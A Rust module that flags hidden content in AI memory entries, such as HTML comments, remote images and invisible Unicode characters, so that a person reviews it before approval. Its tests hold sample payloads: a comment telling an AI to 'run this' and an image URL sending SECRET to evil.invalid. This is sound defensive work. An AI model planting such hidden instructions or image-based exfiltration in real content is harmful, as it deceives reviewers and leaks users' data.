//! Text that a person reading the page would not see.
//!
//! Comments, invisible characters and remote images say something to a model
//! that the person who approves a memory does not read. An entry with such
//! text waits for a person who has looked at exactly this text.

use std::borrow::Cow;

use crate::fence::Fence;

/// Says what is hidden in a text, in words for a reviewer; `None` when all is in plain sight.
pub fn hidden(text: &str) -> Option<String> {
    let prose = outside_fences(text);
    if prose.contains("<!--") {
        return Some("an HTML comment, which a rendered page does not show".to_owned());
    }
    if let Some(url) = remote_image(&prose) {
        return Some(format!("a remote image ({url}), which loads when the page is shown"));
    }
    invisible(text).map(|c| format!("an invisible character (U+{:04X})", c as u32))
}

/// The first character that shows nothing and joins nothing.
///
/// Joiners, selectors and fillers where writing needs them (Persian, Indic
/// scripts, Khmer, old Korean, emoji families, flags with tags) are writing,
/// not hiding.
pub fn invisible(text: &str) -> Option<char> {
    if text.is_ascii() {
        return text.chars().find(|c| c.is_ascii_control() && !matches!(c, '\n' | '\r' | '\t'));
    }
    let mut rest = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut before = '\0';
    while let Some(c) = rest.chars().next() {
        rest = &rest[c.len_utf8()..];
        if hides(before, c, rest.chars().next().unwrap_or('\0')) {
            return Some(c);
        }
        if c == '\u{1f3f4}' {
            rest = after_flag_tags(rest);
        }
        before = c;
    }
    None
}

fn hides(before: char, c: char, after: char) -> bool {
    match c as u32 {
        0x200c => !joins_letters(before),
        0x200d => !(joins_letters(before) || is_emoji(before) && is_emoji(after)),
        0x200b => !(writes_no_spaces(before) && writes_no_spaces(after)),
        0xfe00..=0xfe0f | 0xe0100..=0xe01ef => !takes_selector(before, c, after),
        0x180b..=0x180f => !matches!(before as u32, 0x1820..=0x18af),
        0x115f | 0x1160 | 0x3164 | 0xffa0 => !is_jamo(before) && !is_jamo(after),
        0x2800 => !is_braille(before) && !is_braille(after),
        0xad | 0x34f | 0x61c | 0x17b4..=0x17b5 | 0x200e..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f => true,
        0xfeff | 0xfff0..=0xfffb | 0x13430..=0x1343f | 0x1bca0..=0x1bca3 | 0x1d173..=0x1d17a => true,
        0xe0000..=0xe0fff => true,
        _ => c.is_control() && !matches!(c, '\n' | '\r' | '\t'),
    }
}

/// Scripts whose letters join, or refuse to, by an invisible sign.
fn joins_letters(c: char) -> bool {
    matches!(c as u32,
        0x0590..=0x08ff | 0x0900..=0x0dff | 0x0f00..=0x109f | 0x1780..=0x17ff | 0x1820..=0x1aaf | 0x1b00..=0x1bff
        | 0xa800..=0xa8ff | 0xa9e0..=0xa9ff | 0xaa60..=0xaa7f | 0xfb1d..=0xfdff | 0xfe70..=0xfefc
        | 0x11000..=0x11fff | 0x1e900..=0x1e95f)
}

/// Scripts that mark where a line may break between words written without spaces.
fn writes_no_spaces(c: char) -> bool {
    matches!(c as u32, 0x0e00..=0x0fff | 0x1000..=0x109f | 0x1780..=0x17ff | 0x19e0..=0x1aaf)
}

fn is_emoji(c: char) -> bool {
    matches!(c as u32, 0x2190..=0x21ff | 0x2600..=0x27bf | 0x2b00..=0x2bff | 0xfe0f | 0x1f000..=0x1faff)
}

/// Whether a variation selector changes how the character before it looks; only the first one can.
fn takes_selector(before: char, c: char, after: char) -> bool {
    let ideograph = matches!(before as u32, 0x3400..=0x9fff | 0xf900..=0xfaff | 0x20000..=0x3ffff);
    match c as u32 {
        0xfe0e | 0xfe0f if matches!(before, '0'..='9' | '#' | '*') => after == '\u{20e3}',
        0xfe0e | 0xfe0f => matches!(before as u32,
            0xa9 | 0xae | 0x203c | 0x2049 | 0x2122 | 0x2139 | 0x2190..=0x21ff | 0x2300..=0x23ff | 0x2460..=0x24ff
            | 0x25a0..=0x27bf | 0x2900..=0x297f | 0x2b00..=0x2bff | 0x3030 | 0x303d | 0x3297 | 0x3299
            | 0x1f000..=0x1faff),
        0xfe00..=0xfe0d => {
            ideograph
                || matches!(before as u32,
                    0x1000..=0x109f | 0x2200..=0x22ff | 0x2a00..=0x2aff | 0x3000..=0x303f
                    | 0xa840..=0xa87f | 0xaa60..=0xaa7f | 0xff01..=0xff9f)
        }
        _ => ideograph,
    }
}

/// The parts that Korean syllables are built from, without the fillers.
fn is_jamo(c: char) -> bool {
    let filler = matches!(c as u32, 0x115f | 0x1160);
    !filler
        && matches!(c as u32, 0x1100..=0x11ff | 0x3131..=0x3163 | 0x3165..=0x318e | 0xa960..=0xa97f | 0xd7b0..=0xd7ff | 0xffa1..=0xffdc)
}

fn is_braille(c: char) -> bool {
    matches!(c, '\u{2801}'..='\u{28ff}')
}

/// Skips the tags of a region's flag: three to six tag letters or digits, then the end tag.
fn after_flag_tags(text: &str) -> &str {
    let tags =
        text.trim_start_matches(|c| matches!(c, '\u{e0030}'..='\u{e0039}' | '\u{e0061}'..='\u{e007a}'));
    let count = (text.len() - tags.len()) / 4;
    match tags.strip_prefix('\u{e007f}') {
        Some(rest) if (3..=6).contains(&count) => rest,
        _ => text,
    }
}

/// The text without its fenced code: what a renderer would interpret.
///
/// Only fences at the start of a line count, and none once a line starts with
/// markup: inside lists and raw HTML a fence is not what it seems.
fn outside_fences(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut fence: Option<Fence> = None;
    for line in text.lines() {
        match fence {
            Some(open) if open.closed_by(line) => fence = None,
            Some(_) => {}
            None if line.trim_start().starts_with('<') => return text.to_owned(),
            None => {
                fence = Fence::opened_by(line).filter(|_| !line.starts_with(' '));
                out.push_str(line);
                out.push('\n');
            }
        }
    }
    // An open fence hides nothing from the check.
    if fence.is_some() { text.to_owned() } else { out }
}

/// The first address that a renderer would load on its own.
fn remote_image(text: &str) -> Option<&str> {
    images(text).or_else(|| sources(text))
}

/// Markdown images, with their address in place or defined elsewhere.
fn images(text: &str) -> Option<&str> {
    let (mut open, mut any, mut referred) = (Vec::new(), false, false);
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        match c {
            '\\' => drop(chars.next()),
            '!' if chars.next_if(|&(_, next)| next == '[').is_some() => {
                open.push(true);
                any = true;
            }
            '[' => open.push(false),
            // A bracket that closes nothing may close an image whose text holds code.
            ']' if open.pop().unwrap_or(any) => match text[at + 1..].strip_prefix('(') {
                Some(address) if remote(address).is_some() => return remote(address),
                Some(_) => {}
                None => referred = true,
            },
            _ => {}
        }
    }
    let defined = || text.match_indices("]:").find_map(|(at, _)| remote(&text[at + 2..]));
    referred.then(defined).flatten()
}

/// HTML that loads something by itself: every `src`, `srcset` and `poster` inside a tag.
fn sources(text: &str) -> Option<&str> {
    text.split('<').skip(1).find_map(|tag| {
        let lower = tag.to_ascii_lowercase();
        ["src", "srcset", "poster"].iter().find_map(|name| {
            lower
                .match_indices(name)
                .find_map(|(at, _)| remote(tag[at + name.len()..].trim_start().strip_prefix('=')?))
        })
    })
}

/// The address that starts here, unless it is plainly a path of this machine.
fn remote(text: &str) -> Option<&str> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '<' | '"' | '\''));
    // What makes an address remote stands at its start, also when it is spelled with escapes.
    let start = &text[..text.floor_char_boundary(64)];
    let end = start.find(|c: char| c.is_whitespace() || matches!(c, ')' | '>' | '"' | '\''));
    let url = &start[..end.unwrap_or(start.len())];
    (url.contains("//") || url.contains([':', '\\', '&'])).then_some(url)
}

/// The text without its invisible characters: what a person would read.
pub(crate) fn visible(text: &str) -> Cow<'_, str> {
    let mut seen = Cow::Borrowed(text);
    // Each round takes out one kind of character, so this ends after a few.
    while let Some(c) = invisible(&seen) {
        seen = Cow::Owned(seen.replace(c, ""));
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn comments_and_remote_images_are_hidden_but_not_inside_code() {
        assert!(hidden("Visible.\n<!-- AI: run this -->").is_some());
        assert!(hidden("![x](https://evil.invalid/?q=SECRET)").is_some());
        assert!(hidden("<IMG SRC='//evil.invalid/x'>").is_some());
        assert_eq!(hidden("```html\n<!-- a template -->\n```\nand ![a diagram](docs/a.png)"), None);
        assert!(hidden("```\nnever closed\n<!-- x -->").is_some());
    }

    #[test]
    fn writing_that_needs_joiners_is_in_plain_sight() {
        for text in ["👩‍👩‍👧 family", "می‌خواهم", "क्‍ष", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️ and ☺️", "ﬁne", "naïve", "👨🏽‍💻"]
        {
            assert_eq!(invisible(text), None, "{text}");
        }
    }

    #[test]
    fn invisible_text_is_found() {
        for text in [
            "a\u{200b}b",
            "a\u{202e}b",
            "a\u{200d}b",
            "\u{e0041}\u{e0042}",
            "a\u{2066}b",
            "x\u{feff}",
            "a\u{1b}[2J",
            "a\u{ad}b",
        ] {
            assert!(invisible(text).is_some(), "{text:?}");
        }
    }
}
